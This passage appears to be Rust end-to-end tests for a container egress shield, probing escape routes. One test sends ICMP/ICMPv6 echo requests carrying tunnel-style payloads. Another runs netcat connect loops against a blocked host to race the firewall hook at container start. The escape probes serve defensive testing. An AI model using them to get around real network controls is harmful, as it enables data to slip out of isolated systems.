// 9. ICMP and ICMPv6 echo as a tunnel
// ---------------------------------------------------------------------------------------

/// Bytes of data in each echo request: a tunnel's payload, 0x5a throughout.
const ECHO_DATA: usize = 1000;

#[test]
fn icmp_echo_with_a_payload_reaches_allowed_hosts_only() {
    let mut h = e2e!();
    // slirp4netns forwards echo requests as ICMP only when the host lets it open ping sockets.
    let _ping = e2e::HostPingSockets::allow(&h.user);
    let name = h.name("esc-icmp");
    h.world
        .count("to_blocked4", &format!("ip daddr {BLOCKED4}"));
    h.world.count("to_scoped4", &format!("ip daddr {SCOPED4}"));
    h.world.count(
        "echo_payload_to_allowed4",
        &format!("ip daddr {ALLOWED4} icmp type echo-request @th,64,32 0x5a5a5a5a"),
    );
    h.run_detached(&name, "e2e-basic").expect_ok();
    tap0_ready(&h, &name);
    let pid = e2e::pid_of(&h, &name);
    e2e::count_leaving(&pid, "wire_blocked4", &format!("ip daddr {BLOCKED4}"));
    e2e::count_leaving(&pid, "wire_blocked6", &format!("ip6 daddr {BLOCKED6}"));
    e2e::count_leaving(&pid, "wire_scoped4", &format!("ip daddr {SCOPED4}"));
    e2e::count_leaving(
        &pid,
        "wire_echo_payload_allowed6",
        &format!("ip6 daddr {ALLOWED6} icmpv6 type echo-request @th,64,32 0x5a5a5a5a"),
    );
    let plan = [
        ("icmp", BLOCKED4, ECHO_DATA),
        ("icmp", BLOCKED6, ECHO_DATA),
        // Allowed only for 443/tcp (198.18.0.0/16:443/tcp): not for ICMP.
        ("icmp", SCOPED4, ECHO_DATA),
        // The neighbour discovery types the output chain accepts to any address.
        ("nd", BLOCKED6, 0),
        ("icmp", ALLOWED4, ECHO_DATA),
        ("icmp", ALLOWED6, ECHO_DATA),
    ];
    let out = in_container_ns(&pid, true, &datagram_script(&plan));
    eprintln!("escape: echo requests with {ECHO_DATA} bytes of data:\n{out}");
    assert_eq!(python_cap_eff(&out) & (NET_RAW | CAP_NET_ADMIN), 0, "{out}");
    for host in [BLOCKED4, SCOPED4] {
        let r = sent(&out, "icmp", host, ECHO_DATA);
        assert!(
            r.starts_with("errno=1 "),
            "echo to {host}: expected EPERM at once, got {r}\n{out}"
        );
    }
    // ICMPv6: the ping socket is not told at send time; the admin-prohibited error that the
    // reject sends back is what the connected socket reads instead of a reply (EACCES).
    let r = sent(&out, "icmp", BLOCKED6, ECHO_DATA);
    assert!(
        r.contains("reply=none(errno=13)"),
        "echo to {BLOCKED6}: expected the admin-prohibited error, got {r}\n{out}"
    );
    // A ping socket sends echo requests only: the ND exemption is no way out for it.
    let r = sent(&out, "nd", BLOCKED6, 0);
    assert!(
        r.starts_with("errno=22 "),
        "ND from a ping socket: {r}\n{out}"
    );
    for counter in ["wire_blocked4", "wire_blocked6", "wire_scoped4"] {
        assert_eq!(
            e2e::packets_leaving(&pid, counter),
            0,
            "{counter}: an ICMP packet left the container\n{out}"
        );
    }
    for counter in ["to_blocked4", "to_scoped4"] {
        assert_eq!(h.world.packets(counter), 0, "{counter}: the world saw it");
    }

    // Control: the allowed hosts get the payload. IPv4 goes all the way and back.
    let r = sent(&out, "icmp", ALLOWED4, ECHO_DATA);
    assert!(
        r.contains(&format!("reply={} payload=same", ECHO_DATA + 8)),
        "control: no echo reply carrying the payload from {ALLOWED4}: {r}\n{out}"
    );
    assert!(
        h.world.packets("echo_payload_to_allowed4") > 0,
        "control: the world saw no echo request carrying the payload"
    );
    // libslirp 4.7 forwards no ICMPv6 echo beyond its own gateway, so the IPv6 control is
    // the request leaving the container with its payload.
    let r = sent(&out, "icmp", ALLOWED6, ECHO_DATA);
    assert!(r.starts_with("sent "), "{r}\n{out}");
    assert!(
        e2e::packets_leaving(&pid, "wire_echo_payload_allowed6") > 0,
        "control: no ICMPv6 echo request with the payload left for {ALLOWED6}\n{out}"
    );
}

// ---------------------------------------------------------------------------------------
// 10. Racing the hook at start
// ---------------------------------------------------------------------------------------

/// Connection attempts of [`race_loop`].
const RACE_ROUNDS: u32 = 100;

/// A workload whose very first instruction is a tight, bounded loop of TCP connects to the
/// blocked host (each ends at once: a reset under the shield, the banner and close without
/// it; `-w 2` bounds a silent drop), and that prints [`RAN`] only after it.
fn race_loop() -> String {
    format!(
        "i=0; while [ $i -lt {RACE_ROUNDS} ]; do nc -w 2 {BLOCKED4} 80 </dev/null >/dev/null 2>&1; i=$((i+1)); done; echo {RAN}"
    )
}

/// Wait (at most 60 s) until `podman logs NAME` shows [`RAN`] `times` times.
#[track_caller]
fn wait_for_runs(h: &e2e::E2e, name: &str, times: usize) {
    for _ in 0..300 {
        let logs = h.podman(&["logs", name]);
        if logs.stdout.matches(RAN).count() >= times {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    panic!(
        "{name} did not print {RAN} {times} times: {}",
        h.podman(&["logs", name])
    );
}

/// `podman create` with the flags of a prepared container.
fn create_prepared(h: &e2e::E2e, flags: &[String], args: &[&str]) -> e2e::cmd::Out {
    let mut full: Vec<&str> = vec!["create"];
    full.extend(flags.iter().map(String::as_str));
    full.extend_from_slice(args);
    h.podman(&full)
}

#[test]
fn racing_the_hook_at_start_gets_no_packet_out() {
    let mut h = e2e!();
    h.world
        .count("to_blocked4", &format!("ip daddr {BLOCKED4}"));
    let mark = h.world.mark();

    // 1. `terok-shield run`: the loop is the workload's first instruction.
    let name = h.name("esc-race-run");
    let out = h
        .run_with(
            &name,
            "e2e-basic",
            &["--rm", IMAGE, "sh", "-c", &race_loop()],
        )
        .expect_ok();
    assert!(out.stdout.contains(RAN), "{out}");

    // 2. `prepare`, `podman create`, then `podman start -a`, twice (a stopped container
    //    started again gets a new network namespace, shielded again).
    let name = h.name("esc-race-create");
    let flags = h.prepare(&name, "e2e-basic");
    create_prepared(&h, &flags, &[IMAGE, "sh", "-c", &race_loop()]).expect_ok();
    for _ in 0..2 {
        let out = h.podman(&["start", "-a", &name]).expect_ok();
        assert!(out.stdout.contains(RAN), "{out}");
    }

    // 3. `podman restart` of a running container: the loop runs first after each restart.
    let name = h.name("esc-race-restart");
    let script = format!("{}; sleep 600", race_loop());
    h.run_with(&name, "e2e-basic", &["-d", IMAGE, "sh", "-c", &script])
        .expect_ok();
    wait_for_runs(&h, &name, 1);
    for times in 2..=3 {
        h.podman(&["restart", "-t", "0", &name]).expect_ok();
        wait_for_runs(&h, &name, times);
    }

    // 4. `podman exec` as early as it can be: a thread keeps trying while `podman start`
    //    runs (podman lets an exec in only once the container runs, after its hooks).
    let name = h.name("esc-race-exec");
    let flags = h.prepare(&name, "e2e-basic");
    create_prepared(&h, &flags, &[IMAGE, "sleep", "600"]).expect_ok();
    let user = h.user.clone();
    let target = name.clone();
    let execs = std::thread::spawn(move || {
        let probe = format!("nc -w 2 {BLOCKED4} 80 </dev/null; echo EXEC-RAN");
        let mut ran = 0;
        for _ in 0..60 {
            let out = e2e::as_user(
                &user,
                &[],
                "podman",
                &["exec", &target, "sh", "-c", &probe],
                e2e::SHORT,
            );
            if out.stdout.contains("EXEC-RAN") {
                ran += 1;
                if ran == 3 {
                    break;
                }
            }
        }
        ran
    });
    h.podman(&["start", &name]).expect_ok();
    let ran = execs.join().unwrap();
    eprintln!("escape: race: early execs that ran in {name}: {ran}");
    assert!(ran > 0, "no early exec ran in {name}");

    let seen = h.world.packets("to_blocked4");
    eprintln!("escape: race: packets to {BLOCKED4} in the world over every start: {seen}");
    assert_eq!(seen, 0, "a packet reached the blocked host during a start");
    assert!(!h.world.saw_since(mark, BLOCKED4, 80));

    // Control: the same workload without the shield reaches the blocked host at once.
    let control = h.name("esc-race-control");
    let out = plain(&h, &control, &[], &race_loop()).expect_ok();
    assert!(out.stdout.contains(RAN), "{out}");
    let seen = h.world.packets("to_blocked4");
    eprintln!("escape: race control: packets to {BLOCKED4} without the shield: {seen}");
    assert!(
        seen > 0 && h.world.saw_since(mark, BLOCKED4, 80),
        "control: the unshielded loop got nothing to the blocked host"
    );
}
